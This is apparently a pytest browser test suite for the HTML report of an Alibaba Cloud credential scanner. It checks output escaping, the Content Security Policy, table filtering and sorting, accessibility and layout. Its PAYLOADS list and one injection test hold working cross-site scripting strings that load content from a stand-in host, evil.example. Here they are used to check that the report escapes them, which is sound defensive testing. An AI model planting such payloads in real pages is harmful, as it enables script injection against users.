"""The page in a real browser: nothing of a repository runs, nothing is asked of any network, the table sorts and filters."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from alikey_hook.report.html.page import render
from alikey_hook.report.html.words import ENGLISH
from alikey_hook.result import Result
from tests.browser import CHROMIUM, Browser
from tests.keys import access_key_id
from tests.report.html_test import SECRETS, hostile
from tests.report.samples import ABOUT, ALLOWED, ID, MARKUP
from tests.repository import Repo, pair_lines

pytestmark = [pytest.mark.slow, pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium here")]
PAYLOADS = (
    *MARKUP,
    "<script>document.title='owned'</script>",
    "\"><script src='https://evil.example/x.js'></script>",
    "<img src='https://evil.example/x.png' onerror=\"document.title='owned'\">",
    "' onmouseover='document.title=1' style='background:url(https://evil.example/y)",
    "</code></pre></td></table><iframe src='https://evil.example/'></iframe>",
    "<svg onload=\"document.title='owned'\"></svg>",
    "</title></svg><link rel=stylesheet href=https://evil.example/z.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "</script><base href='https://evil.example/'><form action='https://evil.example/'>",
    "javascript:document.title='owned'",
)


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    """One browser for all tests, as its start takes the most time."""
    made = Browser(tmp_path_factory.mktemp("profile"))
    yield made
    made.close()


def opened(browser: Browser, folder: Path, result: Result, language: str = "en") -> Path:
    page = folder / "page.html"
    origin = ABOUT.origin._replace(branch=PAYLOADS[-2], repository=PAYLOADS[-3])
    page.write_text(render(result, ABOUT._replace(origin=origin, language=language)), "utf-8")
    browser.events.clear()
    browser.open(page)
    return page


def said(browser: Browser) -> list[object]:
    return browser.told("Runtime.consoleAPICalled", "Runtime.exceptionThrown", "Log.entryAdded")


def test_hostile_names_lines_and_branches_run_nothing_and_ask_for_nothing(browser: Browser, tmp_path: Path) -> None:
    page = opened(browser, tmp_path, Result([hostile(ID, payload) for payload in PAYLOADS], 1, 1))
    browser.call("Page.bringToFront")
    browser.value("document.querySelectorAll('td, g, button').forEach((e) => e.dispatchEvent(new MouseEvent('mouseover')))")
    requests = [request["request"]["url"] for request in browser.told("Network.requestWillBeSent")]
    assert requests == [page.as_uri()]
    assert said(browser) == []
    assert browser.value("document.title") == "Alibaba Cloud credentials in this repository"
    assert browser.value("document.querySelectorAll('script, iframe, img, link, base, object').length") == 1
    assert browser.value("location.href") == page.as_uri()
    shown = browser.value("[...document.querySelectorAll('td pre code')].map((e) => e.textContent).join('\\n')")
    assert "<script>document.title='owned'</script>" in shown


def test_a_repository_s_script_in_a_path_a_branch_and_a_message_stays_text(
    browser: Browser, repo: Repo, tmp_path: Path
) -> None:
    path, branch, message = (f"<script>document.title='{name}'</script>" for name in ("path", "branch", "message"))
    repo.git("switch", "--quiet", "--create", branch)
    repo.stage(path, pair_lines(1))
    repo.commit(f"{message} accessKeyId = {access_key_id(2)}")
    page = tmp_path / "page.html"
    assert repo.scan("--history", "--format=html", f"--output={page}").returncode == 1
    browser.events.clear()
    browser.open(page)
    assert browser.value("document.title") == "Alibaba Cloud credentials in this repository"
    assert browser.value("document.scripts.length") == 1
    assert said(browser) == []
    shown = browser.value("document.body.innerText")
    assert [text for text in (path, branch, message) if text not in shown] == []


def test_even_an_injected_script_would_not_run(browser: Browser, tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    evil = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
    page.write_text(render(Result([ID], 1, 1), ABOUT).replace("<main>", f"<main>{evil}"), "utf-8")
    browser.events.clear()
    browser.open(page)
    assert browser.value("document.title") == "Alibaba Cloud credentials in this repository"
    assert any("Content Security Policy" in str(entry) for entry in said(browser))


def test_the_table_filters_and_sorts(browser: Browser, tmp_path: Path) -> None:
    findings = [ID, ALLOWED, ID._replace(severity="low", path="z.py", author_date="2020-01-01", rule="alibaba-oss-signed-url")]
    opened(browser, tmp_path, Result(findings, 1, 1))
    rows = "[...document.querySelectorAll('tbody tr')].filter((r) => !r.hidden)"
    paths = f"{rows}.map((r) => r.cells[3].querySelector('bdi').textContent)"
    assert browser.value(paths) == [ID.path, "tests/a.py", "z.py"]
    fill = (
        "(name, value) => { const field = document.forms[0].elements[name]; field.value = value;"
        "field.dispatchEvent(new Event('input', {bubbles: true})); }"
    )
    for name, value, kept in (
        ("search", "Z.PY", ["z.py"]),
        ("search", "nothing", []),
        ("search", "", [ID.path, "tests/a.py", "z.py"]),
        ("status", "allowed", ["tests/a.py"]),
        ("severity", "low", []),
        ("status", "", ["z.py"]),
    ):
        browser.value(f"({fill})({name!r}, {value!r})")
        assert browser.value(paths) == kept
        assert browser.value("document.querySelector('output').textContent") == f"{len(kept)} of 3 shown"
    browser.value(f"({fill})('severity', '')")
    click = "document.querySelectorAll('th button')[{at}].click()"
    browser.value(click.format(at=4))
    assert browser.value(paths) == ["tests/a.py", "z.py", ID.path]
    browser.value(click.format(at=4))
    assert browser.value(paths) == [ID.path, "z.py", "tests/a.py"]
    assert browser.value("document.querySelectorAll('th')[4].getAttribute('aria-sort')") == "descending"
    assert said(browser) == []


def press(browser: Browser, key: str) -> None:
    number, text = {"Tab": (9, ""), "Enter": (13, "\r")}[key]
    for kind in ("keyDown", "keyUp"):
        browser.call("Input.dispatchKeyEvent", type=kind, key=key, code=key, windowsVirtualKeyCode=number, text=text)


def test_the_keyboard_reaches_the_filter_and_sorts(browser: Browser, tmp_path: Path) -> None:
    opened(browser, tmp_path, Result(SECRETS, 1, 1))
    reached = []
    for _ in range(30):
        press(browser, "Tab")
        reached.append(browser.value("document.activeElement.name || document.activeElement.textContent"))
        if reached[-1] == "Since":
            break
    fields = ["search", "severity", "status", "rule"]
    assert [one for one in reached if one in fields] == fields
    press(browser, "Enter")
    assert browser.value("document.activeElement.parentElement.getAttribute('aria-sort')") == "ascending"


def test_whatever_can_be_used_or_looked_at_has_a_name_for_those_who_do_not_see_it(browser: Browser, tmp_path: Path) -> None:
    opened(browser, tmp_path, Result(SECRETS, 1, 1))
    named: dict[str, set[str]] = {}
    for node in browser.call("Accessibility.getFullAXTree")["nodes"]:
        if not node["ignored"]:
            named.setdefault(node["role"]["value"], set()).add(node.get("name", {}).get("value", ""))
    assert {"Search"} == named["searchbox"]
    assert {"Severity", "Status", "What"} == named["combobox"]
    assert set(ENGLISH.columns.values()) == named["button"] == named["columnheader"]
    assert {"Timeline of exposure"} == named["image"]
    assert all("" not in named[role] for role in ("heading", "region", "group", "link"))


def test_the_timeline_s_bars_are_as_long_as_the_exposure(browser: Browser, tmp_path: Path) -> None:
    opened(browser, tmp_path, Result(SECRETS, 1, 1))
    bars = browser.value(
        "[...document.querySelectorAll('g.secret')]"
        ".map((g) => [g.dataset.start, g.querySelector('rect')?.getBBox().width ?? 0])"
    )
    widths = dict(bars)
    assert list(widths) == ["2023-01-01", "2024-03-01", "2025-11-01", "2025-11-02"]
    # Of 1061 days that the picture spans, in 610 units: 31 days, 635 days to the end, 26 days, not known.
    assert widths["2023-01-01"] == pytest.approx(610 * 31 / 1061, abs=1)
    assert widths["2024-03-01"] == pytest.approx(610 * 636 / 1061, abs=1)
    assert widths["2025-11-01"] == pytest.approx(610 * 26 / 1061, abs=1)
    assert widths["2025-11-02"] == 0


@pytest.mark.parametrize("width", [1280, 390])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_page_fits_its_window_and_can_be_read(browser: Browser, tmp_path: Path, width: int, scheme: str) -> None:
    browser.call("Emulation.setDeviceMetricsOverride", width=width, height=900, deviceScaleFactor=1, mobile=width < 800)
    browser.call("Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": scheme}])
    opened(browser, tmp_path, Result([ID._replace(path="a" * 300), *SECRETS], 1, 1), "zh")
    assert browser.value("document.documentElement.scrollWidth") <= width
    # In a narrow window a finding is a card, and nothing of it is to the right of what is seen.
    findings = "document.querySelector('table.findings').parentElement"
    assert browser.value(f"{findings}.scrollWidth <= {findings}.clientWidth")
    lines = "[...document.querySelectorAll('td:nth-child(4)')].map((cell) => cell.offsetWidth)"
    assert min(browser.value(lines)) >= 300
    assert (
        browser.value("getComputedStyle(document.body).backgroundColor")
        == {
            "light": "rgb(255, 255, 255)",
            "dark": "rgb(20, 24, 29)",
        }[scheme]
    )
    browser.call("Emulation.clearDeviceMetricsOverride")


def test_of_files_there_are_no_empty_columns(browser: Browser, tmp_path: Path) -> None:
    heads = "[...document.querySelectorAll('th')].filter((head) => head.offsetWidth).map((head) => head.textContent)"
    where = "document.querySelector('td:nth-child(4)').offsetWidth"
    browser.call("Emulation.setDeviceMetricsOverride", width=1280, height=900, deviceScaleFactor=1, mobile=False)
    opened(browser, tmp_path, Result([ID, ALLOWED], 1, 1))
    every, narrow = browser.value(heads), browser.value(where)
    opened(browser, tmp_path, Result([ALLOWED], 1, 1))
    assert browser.value(heads) == every[:4] == list(ENGLISH.columns.values())[:4]
    # What the two columns took, 20 rem.
    assert browser.value(where) == narrow + 320
    browser.call("Emulation.clearDeviceMetricsOverride")


def test_without_javascript_everything_is_there_but_the_filter(browser: Browser, tmp_path: Path) -> None:
    browser.call("Emulation.setScriptExecutionDisabled", value=True)
    opened(browser, tmp_path, Result(SECRETS, 1, 1))
    root = browser.call("DOM.getDocument")["root"]["nodeId"]
    page = browser.call("DOM.getOuterHTML", nodeId=root)["outerHTML"]
    browser.call("Emulation.setScriptExecutionDisabled", value=False)
    assert page.count('<tr role="row" data-severity') == len(SECRETS)
    assert '<form class="filter" hidden' in page
    assert "<button" not in page.partition("<script>")[0]


def test_five_thousand_findings_open(browser: Browser, tmp_path: Path) -> None:
    many = [ID._replace(path=f"src/{at}.py", fingerprint=f"sha256:{at:064x}", refs=("refs/heads/main",)) for at in range(5000)]
    page = opened(browser, tmp_path, Result(many, 5000, 1))
    assert page.stat().st_size <= 15 << 20
    assert browser.value("document.querySelectorAll('tbody tr').length") == 5000
    assert said(browser) == []


def test_it_prints_dark_on_white_with_room_for_the_lines(browser: Browser, tmp_path: Path) -> None:
    browser.call("Emulation.setDeviceMetricsOverride", width=720, height=1000, deviceScaleFactor=1, mobile=False)
    dark = [{"name": "prefers-color-scheme", "value": "dark"}]
    browser.call("Emulation.setEmulatedMedia", media="print", features=dark)
    opened(browser, tmp_path, Result(SECRETS, 1, 1))
    assert browser.value("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
    assert browser.value("getComputedStyle(document.forms[0]).display") == "none"
    assert browser.value("document.querySelector('td:nth-child(4)').offsetWidth") >= 180
    assert browser.value("document.documentElement.scrollWidth") <= 720
    browser.call("Emulation.setEmulatedMedia", media="", features=[])
    browser.call("Emulation.clearDeviceMetricsOverride")
